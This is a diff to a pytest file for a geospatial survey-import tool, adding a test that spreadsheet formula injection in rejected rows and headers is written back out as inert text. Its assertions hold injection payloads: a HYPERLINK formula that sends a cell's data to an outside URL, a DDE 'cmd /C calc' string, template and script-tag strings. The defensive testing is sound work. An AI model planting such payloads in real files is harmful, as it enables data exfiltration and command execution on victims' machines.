@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import csv
 import dataclasses
+import io
 import json
 import subprocess
 import sys
@@ -15,16 +17,24 @@ import pandas as pd
 import pytest
 import shapely
 from geopandas.testing import assert_geodataframe_equal
+from intake_corpus import make_corpus as corpus
 from shapely.geometry import Point
 
+from geo.cells import spreadsheet_text
 from geo.cli import main
 from geo.config import BOUNDARIES_PATH, load_config
 from geo.crs import bd09_to_wgs84, gcj02_to_wgs84
-from geo.intake import approximate_footprints, import_file, write_accepted, write_rejects
+from geo.intake import (
+    approximate_footprints,
+    import_file,
+    write_accepted,
+    write_rejects,
+)
 from geo.io import read_communities, read_districts, read_raw_layer
 from geo.schema import COMMUNITY_COLUMNS, FITNESS_PATH_COLUMNS
 from geo.validate import REASONS
-from intake_corpus import make_corpus as corpus
+from tests import hostile
+from tests.test_cells import csv_rows
 
 CORPUS = corpus.HERE
 EXPECTED = pd.read_csv(CORPUS / "expected.csv", dtype=str, keep_default_na=False)
@@ -357,6 +367,59 @@ def test_outputs_rejects_csv_and_accepted_gpkg(tmp_path, config, districts):
     assert communities["community_id"].tolist() == ["450202-0001", "450205-0001"]
     assert communities["geometry_approximate"].tolist() == [True, True]
     assert len(gpd.read_file(out, layer="fitness_paths")) == 2
+
+
+# Hostile headers that stay distinct once the reader strips surrounding whitespace from headers.
+HOSTILE_HEADERS = [text for i, text in enumerate(hostile.ALL)
+                   if text.strip() not in {other.strip() for other in hostile.ALL[:i]}]
+
+
+def hostile_survey(path: Path) -> Path:
+    """A survey CSV whose every row is rejected (population -1), with a hostile name on each row
+    and a column headed by each hostile string holding that row's name too."""
+    rows = corpus.records("communities")
+    columns = corpus.columns_of("communities", rows)
+    buffer = io.StringIO()
+    writer = csv.writer(buffer, lineterminator="\r\n", quoting=csv.QUOTE_ALL)  # "\r" in a cell needs quotes
+    writer.writerow([corpus.header(c, "zh") for c in columns] + HOSTILE_HEADERS)
+    for i, text in enumerate(hostile.ALL):
+        row = {**rows[i % len(rows)], "name": text, "population": -1}
+        writer.writerow([corpus.cell_text(c, row.get(c), "zh") for c in columns] + [text] * len(HOSTILE_HEADERS))
+    path.write_bytes(buffer.getvalue().encode("utf-8"))
+    return path
+
+
+def assert_rejects_csv_is_text(data: bytes, result) -> None:
+    rows = csv_rows(data)  # fails on a formula, a missing BOM or an unquoted text cell
+    assert rows[0] == [spreadsheet_text(str(c)) for c in result.rejects.columns]
+    assert "'=HYPERLINK(\"" + hostile.OUTSIDE_URL + "?d=\"&C2,\"详情\")" in rows[0]  # the user's headers too
+    assert "'@SUM(9)" in rows[0] and "'=1+2" in rows[0] and "小区名称" in rows[0]
+    assert len(rows) == 1 + len(hostile.ALL)
+    names = [row[rows[0].index("名称")] for row in rows[1:]]
+    assert names == [spreadsheet_text(name) for name in result.rejects["名称"]]
+    assert {"'=1+2", "'@SUM(9)", "'+1+2", "{{ 6*7 }}", "<script>alert('xss')</script>"} <= set(names)
+    assert [row[rows[0].index("人口")] for row in rows[1:]] == ["'-1"] * len(hostile.ALL)  # text, as typed
+    assert [row[0] for row in rows[1:]] == [float(n) for n in result.rejects["sheet_row"]]  # numbers stay numbers
+    for header in HOSTILE_HEADERS:
+        column = rows[0].index(spreadsheet_text(header.strip()))
+        assert [row[column] for row in rows[1:]] == [spreadsheet_text(text) for text in result.rejects.iloc[:, column]]
+        assert {"'=1+2", "'-1+2", "'=cmd|' /C calc'!A0", "小区名称"} <= {row[column] for row in rows[1:]}
+
+
+def test_rejects_of_hostile_text_are_text_in_the_app_and_the_cli(tmp_path, config, districts, capsys):
+    survey = hostile_survey(tmp_path / "survey.csv")
+    result = import_file(survey, "communities", None, config, districts)
+    assert result.rejected == len(hostile.ALL) and len(result.accepted) == 0
+    assert {"\x01=HYPERLINK(\"" + hostile.OUTSIDE_URL + "?d=\"&C2,\"详情\")", "@SUM(9)", "=1+2"} <= set(result.rejects.columns)
+
+    app_bytes = result.rejects_csv()  # what the app's download button serves
+    assert_rejects_csv_is_text(app_bytes, result)
+
+    cli_rejects = tmp_path / "rejects.csv"
+    assert main(["import", str(survey), "--layer", "communities", "--out", str(tmp_path / "ok.gpkg"),
+                 "--rejects", str(cli_rejects)]) == 0
+    capsys.readouterr()
+    assert cli_rejects.read_bytes() == app_bytes == write_rejects(result, tmp_path / "again.csv").read_bytes()
 
 
 def test_row_numbers_of_an_xlsx_are_its_sheet_rows(config, districts):
